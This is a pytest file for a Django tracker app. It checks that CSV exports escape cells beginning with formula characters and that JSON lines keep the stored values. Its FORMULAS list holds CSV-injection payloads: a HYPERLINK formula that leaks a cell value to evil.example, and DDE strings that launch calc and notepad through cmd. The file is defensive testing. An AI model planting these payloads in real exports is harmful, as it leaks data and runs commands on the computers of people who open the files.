"""CSV exports never hand a spreadsheet a formula; JSON lines carry the values as stored."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tracker.models import Actor, Article, Statement, Transfer

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def tainted():
    rus, arm = Actor.objects.get(code="RUS"), Actor.objects.get(code="ARM")
    rows = []
    for n, formula in enumerate(FORMULAS):
        article = Article.objects.create(raw=f"text {n}", content_hash=f"{n:064d}", clean_text=f"text {n}",
                                         title=formula, source=formula, url="", status="parsed")
        transfer = Transfer.objects.create(article=article, supplier=rus, recipient=arm, status="planned",
                                           weapons=[formula], evidence=formula, evidence_start=0,
                                           evidence_end=len(formula))
        statement = Statement.objects.create(article=article, speaker_name=formula, supplier=rus, evidence=formula,
                                             evidence_start=0, evidence_end=len(formula))
        statement.recipients.set([arm])
        rows.append((transfer, statement))
    # A harmless cell that only contains a formula character later is left alone.
    article = Article.objects.create(raw="plain", content_hash="f" * 64, clean_text="plain", title="A = B",
                                     source="TASS", status="parsed")
    Transfer.objects.create(article=article, supplier=rus, recipient=arm, status="planned", weapons=[],
                            evidence="Russia - Armenia", evidence_start=0, evidence_end=16)
    return rows


def _csv(api, url):
    response = api.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("kind", ["transfers", "statements"])
def test_csv_cells_that_start_a_formula_are_prefixed_with_a_quote(api, tainted, kind):
    rows = _csv(api, f"/api/{kind}/?format=csv")
    text_columns = ["evidence", "article_title", "article_source"]
    text_columns += ["weapons"] if kind == "transfers" else ["speaker"]
    checked = 0
    for row in rows:
        for column in text_columns:
            value = row[column]
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
            if value.startswith("'"):
                assert value[1:] in FORMULAS
                checked += 1
    assert checked == len(FORMULAS) * len(text_columns)
    if kind == "transfers":
        plain = next(row for row in rows if row["article_title"] == "A = B")
        assert plain["evidence"] == "Russia - Armenia"


def test_confidence_numbers_are_not_quoted(api, tainted):
    rows = _csv(api, "/api/transfers/?format=csv")
    for row in rows:
        float(row["confidence"])


@pytest.mark.parametrize("kind", ["transfers", "statements"])
def test_jsonl_keeps_the_values_as_stored(api, tainted, kind):
    response = api.get(f"/api/{kind}/?format=jsonl")
    lines = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert {line["evidence"] for line in lines} >= set(FORMULAS)
    assert {line["article_title"] for line in lines} >= set(FORMULAS)
